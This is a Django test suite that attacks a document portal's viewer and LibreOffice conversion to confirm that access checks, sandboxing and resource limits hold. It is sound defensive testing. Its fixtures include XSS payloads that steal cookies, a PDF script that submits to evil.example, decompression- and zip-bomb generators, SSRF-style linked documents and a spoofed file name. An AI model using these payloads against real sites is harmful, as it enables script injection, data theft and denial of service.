"""Attacks on the portal's viewer, its derived files and LibreOffice, as a
hostile member, outsider or uploader would try them (issue 14)."""

from __future__ import annotations

import io
import re
import threading
from html.parser import HTMLParser
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.db import connection
from PIL import Image

from portal.audit.models import AuditEvent
from portal.files.models import Node
from portal.files.services.tree import node_trash
from portal.previews import office, services
from portal.previews.models import DerivedFile, DerivedKind, DerivedState
from portal.previews.selectors import thumbnail_urls
from portal.scanning.models import ScanState, ScanVerdict
from portal.spaces.models import Membership
from portal.spaces.services import member_remove, space_create
from portal.storage.derived import derived_storage
from tests.previews.conftest import Files, png_bytes, scanned
from tests.previews.test_tasks import docx_bytes
from tests.web.live import page_client
from tests.support.pdf import pdf_of

pytestmark = pytest.mark.django_db
HTMX = {"HTTP_HX_REQUEST": "true"}
PDF_WITH_JS = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
               b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def item(node) -> str:
    return f"/spaces/{node.space_id}/items/{node.pk}"


def every_url(node) -> list[str]:
    base = item(node)
    return [f"{base}/view", f"{base}/view/bytes", f"{base}/view/rendition", f"{base}/thumbnail"]


def unmasked(response) -> str:
    """A page without its per-response CSRF masks."""
    return re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", response.content.decode())


def ready_thumbnail(node) -> None:
    scanned(node.current_version)
    assert services.thumbnail_make(node.current_version_id) == DerivedState.READY


def fake_rendition(version, body: bytes = b"%PDF-1.4 old\n") -> DerivedFile:
    """A finished rendition row with its file, as the task leaves it."""
    name = derived_storage().save(f"renditions/{version.pk}.pdf", ContentFile(body))
    return DerivedFile.objects.create(version=version, kind=DerivedKind.PDF, state=DerivedState.READY, name=name,
                                      size=len(body), content_type="application/pdf")


# --- who may ask -----------------------------------------------------------------------------

def test_a_node_named_under_another_space_of_the_same_member_is_404_everywhere(alice, files):
    image = files.node("/a.png", png_bytes())
    ready_thumbnail(image)
    other = space_create(actor=alice, name="Other")
    client = page_client(alice)
    for url in every_url(image):
        crossed_url = url.replace(f"/spaces/{image.space_id}/", f"/spaces/{other.pk}/")
        missing_url = crossed_url.replace(f"/items/{image.pk}/", "/items/99999999/")
        crossed, missing = client.get(crossed_url), client.get(missing_url)
        assert crossed.status_code == missing.status_code == 404, url
        # word for word the page of a missing file (but for the address the language form returns to)
        assert unmasked(crossed) == unmasked(missing).replace(missing_url, crossed_url), url
    status = client.get(f"/spaces/{other.pk}/items/{image.pk}/view/status", **HTMX)
    assert status.status_code == 404
    assert not AuditEvent.objects.filter(action="file.viewed").exists()


def test_an_outsider_gets_no_thumbnail_or_rendition_even_when_they_exist(bob, files):
    image = files.node("/a.png", png_bytes())
    ready_thumbnail(image)
    doc = files.node("/d.docx", b"doc")
    scanned(doc.current_version)
    fake_rendition(doc.current_version)
    client = page_client(bob)
    for url in every_url(image) + every_url(doc):
        assert client.get(url).status_code == 404, url
    assert client.get(f"{item(doc)}/view/status", **HTMX).status_code == 404
    assert not AuditEvent.objects.filter(action="file.viewed").exists()


def test_a_member_removed_after_the_page_opened_gets_nothing_more(alice, bob, files, team):
    Membership.objects.create(space=team, user=bob, role="viewer")
    image = files.node("/a.png", png_bytes())
    ready_thumbnail(image)
    doc = files.node("/d.docx", b"doc")
    scanned(doc.current_version)
    fake_rendition(doc.current_version)
    client = page_client(bob)
    assert client.get(f"{item(image)}/view").status_code == 200   # a viewer may open files
    assert client.get(f"{item(doc)}/view").status_code == 200
    member_remove(actor=alice, space_id=team.pk, user_id=bob.pk)
    viewed = AuditEvent.objects.filter(action="file.viewed").count()
    for url in every_url(image) + every_url(doc):
        assert client.get(url).status_code == 404, url
    assert client.get(f"{item(doc)}/view/status", **HTMX).status_code == 404
    assert client.get(f"{item(image)}/view/bytes", HTTP_RANGE="bytes=10-").status_code == 404
    assert AuditEvent.objects.filter(action="file.viewed").count() == viewed


def test_a_viewer_role_reads_but_the_viewer_accepts_no_writes(bob, files, team):
    Membership.objects.create(space=team, user=bob, role="viewer")
    node = files.node("/n.txt", b"hello")
    client = page_client(bob)
    assert client.get(f"{item(node)}/view").status_code == 200
    for url in every_url(node):
        assert client.post(url).status_code in (403, 405), url


def test_thumbnail_urls_name_only_the_nodes_given_in_their_own_space(alice, bob, files):
    mine = files.node("/a.png", png_bytes())
    ready_thumbnail(mine)
    theirs_space = space_create(actor=bob, name="Bob's")
    theirs = Files(bob, theirs_space).node("/b.png", png_bytes())
    ready_thumbnail(theirs)
    urls = thumbnail_urls([mine])
    assert list(urls) == [mine.pk] and urls[mine.pk].startswith(f"/spaces/{mine.space_id}/items/{mine.pk}/")
    # A listing handed a stranger's node still yields a URL that only its space's members can use.
    assert page_client(alice).get(thumbnail_urls([theirs])[theirs.pk]).status_code == 404


# --- nothing runs in the portal's origin ------------------------------------------------------

@pytest.mark.parametrize("name, body", [
    ("evil.png", b"<html><script>alert(document.cookie)</script></html>"),
    ("evil.jpg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    ("evil.pdf", PDF_WITH_JS),
])
def test_bytes_served_inline_are_sandboxed_nosniff_and_keep_their_declared_type(alice, files, name, body):
    node = files.node(f"/{name}", body)
    response = page_client(alice).get(f"{item(node)}/view/bytes")
    assert response.status_code == 200
    assert response["Content-Type"] in ("image/png", "image/jpeg", "application/pdf")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox"
    assert "text/html" not in response["Content-Type"]


@pytest.mark.parametrize("name", ["page.html", "page.htm", "page.xhtml", "feed.xml", "x.js", "x.svgz", "blob"])
def test_markup_and_script_files_have_no_bytes_endpoint(alice, files, name):
    node = files.node(f"/{name}", b"<html><script>alert(1)</script></html>")
    client = page_client(alice)
    assert client.get(f"{item(node)}/view/bytes").status_code == 400
    page = client.get(f"{item(node)}/view")
    assert page.status_code == 200 and b"<script>alert(1)" not in page.content


def test_an_svg_shown_alone_downloads_and_is_sandboxed_even_as_a_ranged_read(alice, files):
    node = files.node("/logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    response = page_client(alice).get(f"{item(node)}/view/bytes", HTTP_RANGE="bytes=0-")
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Security-Policy"] == "sandbox" and response["X-Content-Type-Options"] == "nosniff"


def test_a_png_holding_html_gets_a_failed_thumbnail_not_a_500(alice, files):
    node = files.node("/fake.png", b"<html><script>alert(1)</script></html>")
    scanned(node.current_version)
    assert services.thumbnail_make(node.current_version_id) == DerivedState.FAILED
    assert page_client(alice).get(f"{item(node)}/thumbnail").status_code == 404


@pytest.mark.parametrize("source", [
    b"<img src=x onerror=alert(1)>",
    b"[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html;base64,PHNjcmlwdD4=)",
    b"![i](data:image/svg+xml;base64,PHN2Zz4=) ![j](https://evil.example/x.png)",
    b"<a href='javascript:alert(1)'>raw</a> <iframe src=//evil.example></iframe>",
    b"[x](vbscript:msgbox) <style>body{display:none}</style> <form action=//evil.example><input></form>",
    b"[t]: javascript:alert(1)\n\n[link][t]",
    b"<details open ontoggle=alert(1)>",
])
def test_markdown_never_carries_script_or_foreign_loads(alice, files, source):
    node = files.node("/attack.md", source)
    page = page_client(alice).get(f"{item(node)}/view").content.decode()
    body = page.split('id="viewer-markdown"', 1)[1].split("</article>", 1)[0]
    parsed = Elements()
    parsed.feed(body[1:])
    assert not {"img", "iframe", "style", "form", "input", "details", "script", "svg"} & parsed.tags, body
    for tag, name, value in parsed.attributes:
        assert not name.startswith("on"), (tag, name)
        if name in ("href", "src"):
            assert value.split(":", 1)[0].lower() in ("http", "https", "mailto"), (tag, value)


class Elements(HTMLParser):
    """The tags and attributes of an HTML fragment, as a browser would read them."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


# --- names ---------------------------------------------------------------------------------

def test_a_legacy_name_with_quotes_angles_newline_and_rtl_override_is_escaped_in_pages_and_headers(alice, files):
    node = files.node("/plain.png", png_bytes((20, 20)))
    hostile = 'x"<b>onmouseover=alert(1)\n\u202egnp.exe.png'
    Node.objects.filter(pk=node.pk).update(name=hostile)   # stored before today's name rules
    client = page_client(alice)
    page = client.get(f"{item(node)}/view")
    assert page.status_code == 200
    html = page.content.decode()
    assert "<b>onmouseover" not in html and "&lt;b&gt;" in html
    served = client.get(f"{item(node)}/view/bytes")
    disposition = served["Content-Disposition"]
    assert "\n" not in disposition and "\r" not in disposition
    assert disposition.count('"') == 2                       # the ASCII name is quoted once, its quote replaced
    assert "\u202e" not in disposition and "%E2%80%AE" not in disposition.upper()   # no spoofed extension


# --- quarantined, held, trashed, replaced -------------------------------------------------

def test_a_held_version_never_renders_has_no_thumbnail_and_asks_for_no_rendition(alice, files):
    image = files.node("/a.png", png_bytes())
    ready_thumbnail(image)
    doc = files.node("/d.docx", b"doc")
    fake_rendition(doc.current_version)
    for node in (image, doc):   # now held: the scan has to run again and the scanner is down
        ScanVerdict.objects.filter(version=node.current_version).update(state=ScanState.PENDING, fail_closed=True)
    text = files.node("/t.txt", b"held words")
    ScanVerdict.objects.filter(version=text.current_version).update(state=ScanState.PENDING, fail_closed=True)
    client = page_client(alice)
    assert "held words" not in client.get(f"{item(text)}/view").content.decode()
    assert client.get(f"{item(image)}/view/bytes").status_code == 403
    assert client.get(f"{item(image)}/thumbnail").status_code == 404
    assert client.get(f"{item(doc)}/view/rendition").status_code == 403
    page = client.get(f"{item(doc)}/view").content.decode()
    assert "view/rendition" not in page and "held" in page
    status = client.get(f"{item(doc)}/view/status", **HTMX).content.decode()
    assert "view/rendition" not in status and "data-pdf" not in status
    assert not AuditEvent.objects.filter(action="file.viewed").exists()


def test_a_flagged_office_document_is_never_converted(files, monkeypatch):
    monkeypatch.setattr(office, "convert_to_pdf", lambda *a, **k: pytest.fail("converted quarantined bytes"))
    doc = files.node("/d.docx", docx_bytes("x"))
    scanned(doc.current_version, ScanState.FLAGGED, "Eicar-Test-Signature")
    assert services.rendition_make(doc.current_version_id) == DerivedState.PENDING


def test_a_trashed_file_has_no_viewer(alice, files):
    image = files.node("/a.png", png_bytes())
    ready_thumbnail(image)
    node_trash(actor=alice, node_id=image.pk)
    client = page_client(alice)
    for url in every_url(image):
        assert client.get(url).status_code == 404, url


def test_after_a_new_version_the_old_rendition_is_not_served_for_it(alice, files):
    doc = files.node("/d.docx", b"first")
    scanned(doc.current_version)
    fake_rendition(doc.current_version, b"%PDF-1.4 the first version\n")
    old = doc.current_version_id
    doc = files.node("/d.docx", b"second")
    scanned(doc.current_version)
    client = page_client(alice)
    response = client.get(f"{item(doc)}/view/rendition?v={old}")   # an old page's address
    assert response.status_code == 404
    assert not DerivedFile.objects.filter(version_id=doc.current_version_id, state=DerivedState.READY).exists()


# --- ranges and counting ----------------------------------------------------------------------

def test_ranges_and_heads_on_the_bytes_are_audited_once_per_opening(alice, files):
    video = files.node("/c.mp4", b"\0" * 5000)
    client = page_client(alice)
    url = f"{item(video)}/view/bytes"
    assert client.head(url).status_code == 200
    assert client.get(url, HTTP_RANGE="bytes=100-199").status_code == 206
    assert client.get(url, HTTP_RANGE="bytes=999999-").status_code == 416
    assert not AuditEvent.objects.filter(action="file.viewed").exists()
    assert client.get(url, HTTP_RANGE="bytes=-10").status_code == 206          # the tail: a resumed part
    assert not AuditEvent.objects.filter(action="file.viewed").exists()
    assert client.get(url, HTTP_RANGE="bytes=0-").status_code == 206            # an opening
    assert AuditEvent.objects.filter(action="file.viewed").count() == 1
    # Several ranges, or an inverted one, are answered whole: that is an opening too, never a free read.
    assert client.get(url, HTTP_RANGE="bytes=10-20,0-5").status_code == 200
    assert client.get(url, HTTP_RANGE="bytes=20-10").status_code == 200
    assert AuditEvent.objects.filter(action="file.viewed").count() == 3


# --- derived files from hostile input ------------------------------------------------------

def _png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` x ``height``: a few hundred bytes, a bomb if decoded."""
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, format="PNG", optimize=True)
    return out.getvalue()


def test_a_decompression_bomb_or_a_huge_png_gets_a_failed_thumbnail(alice, files, settings):
    settings.PREVIEW_MAX_PIXELS = 1_000_000
    bomb = files.node("/bomb.png", _png_header_only(4000, 4000))      # 16 Mpx of one colour, ~ a few KB
    scanned(bomb.current_version)
    assert services.thumbnail_make(bomb.current_version_id) == DerivedState.FAILED
    assert "pixels" in DerivedFile.objects.get(version=bomb.current_version).error
    assert page_client(alice).get(f"{item(bomb)}/thumbnail").status_code == 404
    assert page_client(alice).get(f"{item(bomb)}/view").status_code == 200


def test_a_corrupt_image_fails_once_and_its_pages_still_answer(alice, files):
    broken = files.node("/broken.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 200)
    scanned(broken.current_version)
    assert services.thumbnail_make(broken.current_version_id) == DerivedState.FAILED
    assert services.thumbnail_make(broken.current_version_id) == DerivedState.FAILED
    client = page_client(alice)
    assert client.get(f"{item(broken)}/thumbnail").status_code == 404
    assert client.get(f"{item(broken)}/view").status_code == 200


def test_a_huge_office_file_is_refused_before_it_is_read_or_converted(files, monkeypatch):
    monkeypatch.setattr(services, "MAX_SOURCE_BYTES", 1000)
    monkeypatch.setattr(office, "convert_to_pdf", lambda *a, **k: pytest.fail("converted an oversized file"))
    doc = files.node("/big.docx", b"x" * 5000)
    scanned(doc.current_version)
    assert services.rendition_make(doc.current_version_id) == DerivedState.FAILED
    assert "MiB" in DerivedFile.objects.get(version=doc.current_version).error


def _zip_bomb_docx(megabytes: int) -> bytes:
    """A docx whose document.xml inflates to ``megabytes`` MB of one paragraph's text."""
    from tests.previews import test_tasks

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, body in test_tasks._DOCX_PARTS.items():
            archive.writestr(name, body)
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w='
                         b'"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>')
            chunk = b"A" * (1024 * 1024)
            for _ in range(megabytes):
                member.write(chunk)
            member.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return out.getvalue()


def test_a_zip_bomb_docx_ends_within_the_limits_and_leaves_no_soffice(files, settings):
    settings.OFFICE_TIMEOUT, settings.OFFICE_MEMORY_MB = 20, 1024
    data = _zip_bomb_docx(400)
    assert len(data) < 2 * 1024 * 1024
    doc = files.node("/bomb.docx", data)
    scanned(doc.current_version)
    state = services.rendition_make(doc.current_version_id)
    assert state in (DerivedState.FAILED, DerivedState.READY)
    assert not _soffice_of_ours()


def _soffice_of_ours() -> list[int]:
    """soffice processes started for a conversion (their profile is in a coffer-office- folder)."""
    import os

    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                args = cmdline.read()
            with open(f"/proc/{pid}/stat") as stat:
                zombie = stat.read().split(") ", 1)[1].startswith("Z")
        except OSError:
            continue
        if b"coffer-office-" in args and not zombie:
            found.append(int(pid))
    return found


@pytest.mark.django_db(transaction=True)
def test_concurrent_conversions_of_one_version_make_one_rendition(alice, monkeypatch):
    team = space_create(actor=alice, name="Race")
    doc = Files(alice, team).node("/race.docx", docx_bytes("Made once"))
    scanned(doc.current_version)
    runs, real = [], office.convert_to_pdf

    def counted(*args, **kwargs):
        runs.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(office, "convert_to_pdf", counted)
    barrier, results, errors = threading.Barrier(3), [], []

    def convert():
        try:
            barrier.wait()
            results.append(services.rendition_make(doc.current_version_id))
        except BaseException as exc:   # reported below, never lost in the thread
            errors.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=convert) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=180)
    assert not errors, errors
    rows = DerivedFile.objects.filter(version=doc.current_version, kind=DerivedKind.PDF)
    assert rows.count() == 1 and rows[0].state == DerivedState.READY
    assert len(runs) == 1, f"LibreOffice ran {len(runs)} times for one version"
    pk = doc.current_version_id
    stored = [name for name in derived_storage().listdir("renditions")[1] if re.match(rf"{pk}[._]", name)]
    assert stored == [rows[0].name.split("/")[-1]]    # no loser's file left behind
    assert set(results) <= {DerivedState.READY, DerivedState.PENDING}


# --- in Chromium: nothing of the file runs as the portal ------------------------------------------

def pdf_with_javascript() -> bytes:
    """A one-page PDF whose OpenAction and page action run JavaScript (a correct xref, so pdf.js reads it)."""
    script = b"app.alert('pdf-js-ran'); this.submitForm('https://evil.example/');"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names<</JavaScript<</Names[(x) 4 0 R]>>>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/AA<</O 4 0 R>>>>",
        b"<</S/JavaScript/JS(" + script + b")>>",
    ]
    return pdf_of(objects, version=b"1.7")


def _watch_dialogs(page) -> list[str]:
    dialogs: list[str] = []

    def dismiss(dialog):
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    return dialogs


@pytest.fixture
def hostile_files(alice):
    space = space_create(actor=alice, name="Hostile")
    files = Files(alice, space)
    nodes = {
        "js.pdf": files.node("/js.pdf", pdf_with_javascript()),
        "html.png": files.node("/html.png", b"<html><head><title>pwned</title></head><body>"
                                            b"<script>window.__pwned = 1; alert('png-ran')</script></body></html>"),
        "links.md": files.node("/links.md", b"[click me](javascript:alert('md-ran'))\n\n"
                                            b"<img src=x onerror=alert('img-ran')>\n\n"
                                            b"[data](data:text/html,<script>alert('data-ran')</script>)\n"),
        "logo.svg": files.node("/logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
                                            b'onload="alert(\'svg-ran\')"><script>alert(\'svg-ran\')</script></svg>'),
    }
    for node in nodes.values():
        scanned(node.current_version)
    return nodes


@pytest.mark.django_db(transaction=True)
def test_in_chromium_no_hostile_file_runs_script_in_the_viewer(signed_in_page, alice, hostile_files,
                                                               console_errors, settings, live_server):
    from playwright.sync_api import expect

    settings.PUBLIC_URL = live_server.url
    page = signed_in_page(alice)
    dialogs = _watch_dialogs(page)
    pdf = hostile_files["js.pdf"]
    page.goto(f"{item(pdf)}/view")
    expect(page.locator(".pdf-view")).to_have_attribute("data-rendered", "1")   # drawn by pdf.js, its script not run
    page.goto(f"{item(hostile_files['logo.svg'])}/view")
    expect(page.locator("[data-zoom-image]")).to_have_js_property("complete", True)
    page.goto(f"{item(hostile_files['links.md'])}/view")
    link = page.locator("#viewer-markdown").get_by_text("click me")
    expect(link).to_be_visible()
    assert page.locator("#viewer-markdown a[href^='javascript'], #viewer-markdown img").count() == 0
    link.click()
    page.goto(f"{item(hostile_files['html.png'])}/view/bytes")   # the "image" opened on its own
    assert page.title() != "pwned" and page.evaluate("typeof window.__pwned") == "undefined"
    page.goto("/")
    assert dialogs == [], dialogs


# --- LibreOffice reaching out -------------------------------------------------------------------

def _odt_linking(*urls: str) -> bytes:
    """An ODT whose images are only links (an internal address, a local file), and a linked section."""
    frames = "".join(
        f'<text:p><draw:frame draw:name="i{n}" svg:width="3cm" svg:height="3cm" text:anchor-type="as-char">'
        f'<draw:image xlink:href="{url}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
        f'</draw:frame></text:p>' for n, url in enumerate(urls))
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" office:version="1.2">'
        f'<office:body><office:text><text:p>Linked pictures</text:p>{frames}</office:text></office:body>'
        '</office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                '</manifest:manifest>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", manifest)
    return out.getvalue()


def _docx_linking(*urls: str) -> bytes:
    """A Word document whose pictures are external relationships (``TargetMode="External"``)."""
    from tests.previews import test_tasks

    namespaces = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
                  'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                  'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
                  'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
                  'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"')
    size = 'cx="1080000" cy="1080000"'
    pictures = "".join(
        f'<w:p><w:r><w:drawing><wp:inline><wp:extent {size}/><wp:docPr id="{n + 1}" name="p{n}"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        f'<pic:cNvPr id="{n + 1}" name="p{n}"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f'<a:blip r:link="rIdX{n}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm>'
        f'<a:off x="0" y="0"/><a:ext {size}/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic>'
        '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>' for n in range(len(urls)))
    document = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {namespaces}><w:body>'
                f'<w:p><w:r><w:t>Linked pictures</w:t></w:r></w:p>{pictures}</w:body></w:document>')
    relationships = "".join(
        f'<Relationship Id="rIdX{n}" Target="{url}" TargetMode="External" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/>'
        for n, url in enumerate(urls))
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relationships}'
            '</Relationships>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        parts = {**test_tasks._DOCX_PARTS, "word/document.xml": document, "word/_rels/document.xml.rels": rels}
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


@pytest.fixture
def internal_server():
    """A local HTTP server standing for a metadata service or an intranet page: it answers a red PNG."""
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    requests: list[str] = []
    red = png_bytes((60, 60), (255, 0, 0))

    class Internal(BaseHTTPRequestHandler):
        def do_GET(self):
            requests.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()
            self.wfile.write(red)

        do_OPTIONS = do_HEAD = do_GET

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Internal)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", requests, red
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("name, make", [("linked.odt", _odt_linking), ("linked.docx", _docx_linking)])
def test_a_document_linking_internal_urls_or_local_files_makes_libreoffice_fetch_nothing(
        files, tmp_path, internal_server, name, make):
    import pypdfium2 as pdfium

    base, requests, red = internal_server
    (tmp_path / "local.png").write_bytes(red)
    doc = files.node(f"/{name}", make(f"{base}/latest/meta-data.png", (tmp_path / "local.png").as_uri()))
    scanned(doc.current_version)
    assert services.rendition_make(doc.current_version_id) == DerivedState.READY
    assert requests == [], "LibreOffice fetched a linked URL while converting"
    with derived_storage().open(DerivedFile.objects.get(version=doc.current_version).name, "rb") as stored:
        document = pdfium.PdfDocument(stored.read())
    try:
        drawn = document[0].render(scale=1).to_pil().convert("RGB")
    finally:
        document.close()
    reds = sum(1 for r, g, b in drawn.get_flattened_data() if r > 200 and g < 60 and b < 60)
    assert reds == 0, "a linked picture (remote or local) was drawn into the rendition"


# --- text that takes the highlighter or the Markdown parser hours ------------------------------

def test_crafted_code_that_makes_the_highlighter_quadratic_is_shown_plain_within_its_time(alice, files, monkeypatch):
    import time

    from portal.previews import viewing

    monkeypatch.setattr(viewing, "HIGHLIGHT_SECONDS", 0.5)
    node = files.node("/unclosed.js", b'"\\' * 30_000 + b"\nconst marker = 1;\n")   # ~a minute unbounded
    started = time.monotonic()
    page = page_client(alice).get(f"{item(node)}/view")
    assert time.monotonic() - started < 10
    assert page.status_code == 200 and "const marker = 1;" in page.content.decode()
    assert viewing.code_html("ok.js", "const a = 1;").count('class="k') >= 1   # normal code still highlighted


def test_markdown_is_parsed_from_its_first_256_kib_only(alice, files):
    node = files.node("/brackets.md", b"[" * (1024 * 1024))
    html = page_client(alice).get(f"{item(node)}/view").content.decode()
    assert "Showing the first 256.0\xa0KB" in html or "Showing the first 256.0 KB" in html


@pytest.mark.django_db(transaction=True)
def test_in_chromium_a_member_removed_while_a_document_is_prepared_stops_polling(
        signed_in_page, alice, bob, console_errors, settings, live_server):
    from playwright.sync_api import expect

    settings.PUBLIC_URL = live_server.url
    space = space_create(actor=alice, name="Prepared")
    Membership.objects.create(space=space, user=bob, role="viewer")
    doc = Files(alice, space).node("/plan.docx", docx_bytes("Plan"))
    scanned(doc.current_version)
    page = signed_in_page(bob)
    page.goto(f"{item(doc)}/view")
    office_view = page.locator("#office-view")
    expect(office_view).to_have_attribute("hx-trigger", "every 2s")
    member_remove(actor=alice, space_id=space.pk, user_id=bob.pk)
    with page.expect_response(lambda r: r.url.endswith(f"{item(doc)}/view/status")) as polled:
        pass
    assert polled.value.status == 404
    expect(office_view).not_to_have_attribute("hx-trigger", "every 2s")   # no longer polled
    expect(page.locator("[data-office-pending]")).to_be_visible()          # the part stays, nothing leaks
    # The one refused poll is the console error this test expects; any other fails it.
    page.evaluate("0")   # a round trip: messages already logged have arrived
    console_errors[:] = [error for error in console_errors if "404" not in error]
